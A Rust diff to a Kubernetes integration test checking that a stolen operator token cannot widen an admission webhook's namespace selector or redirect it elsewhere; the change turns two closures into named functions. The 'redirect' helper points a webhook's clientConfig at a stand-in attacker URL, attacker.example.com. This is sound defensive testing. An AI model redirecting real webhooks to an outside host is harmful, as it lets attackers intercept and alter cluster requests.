@@ -573,6 +573,21 @@ fn relabel_deployment(
     )
 }
 
+/// A change of a webhook of the configuration, with a value new on each attempt.
+type WebhookChange = fn(&mut Value, usize);
+
+/// Sent to more namespaces than the chart's.
+fn widen(webhook: &mut Value, attempt: usize) {
+    webhook["namespaceSelector"] =
+        serde_json::json!({"matchLabels": {"guard-test": attempt.to_string()}});
+}
+
+/// Sent to a server of someone else's choice.
+fn redirect(webhook: &mut Value, attempt: usize) {
+    webhook["clientConfig"] =
+        serde_json::json!({"url": format!("https://attacker.example.com/mutate/{attempt}")});
+}
+
 /// What a stolen operator token can no longer do, each tried for real on the apiserver with that
 /// token: write a workload of kube-system or of the release namespace (RBAC allows the update, the
 /// chart's ValidatingAdmissionPolicy refuses it), and touch a webhook configuration or admission
@@ -757,26 +772,12 @@ async fn a_stolen_operator_token_cannot_write_system_workloads_or_other_webhook_
     );
     // A new value each attempt: one that went through before the policy was in force must not
     // make the next attempt a no-op.
-    let widen = |attempt: usize| -> Box<dyn Fn(&mut Value)> {
-        Box::new(move |webhook| {
-            webhook["namespaceSelector"] =
-                serde_json::json!({"matchLabels": {"guard-test": attempt.to_string()}});
-        })
-    };
-    let redirect = |attempt: usize| -> Box<dyn Fn(&mut Value)> {
-        Box::new(move |webhook| {
-            webhook["clientConfig"] = serde_json::json!({
-                "url": format!("https://attacker.example.com/mutate/{attempt}")
-            });
-        })
-    };
-    let changes: [(&str, &dyn Fn(usize) -> Box<dyn Fn(&mut Value)>); 2] =
-        [("widened", &widen), ("redirected", &redirect)];
+    let changes: [(&str, WebhookChange); 2] = [("widened", widen), ("redirected", redirect)];
     for (what, change) in changes {
         let mut attempt = 0;
         let refused = eventually(&format!("its webhook {what} to be refused"), WAIT, || {
             attempt += 1;
-            let output = rewrite(&kubeconfig, &*change(attempt));
+            let output = rewrite(&kubeconfig, &|webhook| change(webhook, attempt));
             async move { (!output.status.success()).then(|| text(&output)) }
         })
         .await;
@@ -786,7 +787,7 @@ async fn a_stolen_operator_token_cannot_write_system_workloads_or_other_webhook_
             )) && refused.contains("may change only the caBundle"),
             "{what}: {refused}"
         );
-        let output = rewrite(&admin, &*change(0));
+        let output = rewrite(&admin, &|webhook| change(webhook, 0));
         assert!(
             output.status.success(),
             "{what} as admin: {}",
